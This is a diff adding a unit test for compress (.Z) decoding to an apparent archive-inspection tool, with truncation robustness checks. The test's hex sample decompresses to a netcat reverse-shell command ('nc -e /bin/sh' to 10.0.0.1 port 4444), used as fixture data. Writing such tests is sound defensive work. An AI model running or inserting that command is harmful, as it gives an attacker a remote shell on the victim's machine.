@@ -479,6 +479,33 @@ static void test_depth(void)
     free(tgz);
 }
 
+/* .Z (compress, 16 bits, block mode): a sample ncompress wrote */
+static void test_compress(void)
+{
+    static const char hex[] =
+        "1f9d906ec680685106c40b3169dcbc988306440c182e20428c018286451a3b40041c58"
+        "f060c2850d1f461c49f1220d05";
+    unsigned char z[64];
+    size_t n = 0;
+    for (; hex[2 * n]; n++) {
+        unsigned v;
+        sscanf(hex + 2 * n, "%2x", &v);
+        z[n] = (unsigned char)v;
+    }
+    const char *want = "nc -e /bin/sh 10.0.0.1 4444; nc -e /bin/sh 10.0.0.1 4444\n";
+    CHECK(pc_unwrap_sniff(z, n) == PC_WRAP_COMPRESS);
+    seen s = {0};
+    inspect(z, n, 1 << 20, 0, 0, &s);
+    CHECK(s.n == 1 && s.sizes[0] == strlen(want));
+    CHECK_STR(s.names[0], "(compress)");
+    /* every truncation: no more than the whole, no crash */
+    for (size_t cut = 3; cut < n; cut++) {
+        seen t = {0};
+        inspect(z, cut, 1 << 20, 0, 0, &t);
+        CHECK(t.n <= 1 && (t.n == 0 || t.sizes[0] < strlen(want)));
+    }
+}
+
 static void test_sniff(void)
 {
     CHECK(pc_nest_wants((const unsigned char *)"#!/bin/sh\n", 10)); /* an archive may follow */
@@ -501,5 +528,6 @@ int main(void)
     test_stream();
     test_stub();
     test_rpm();
+    test_compress();
     TEST_MAIN_END();
 }
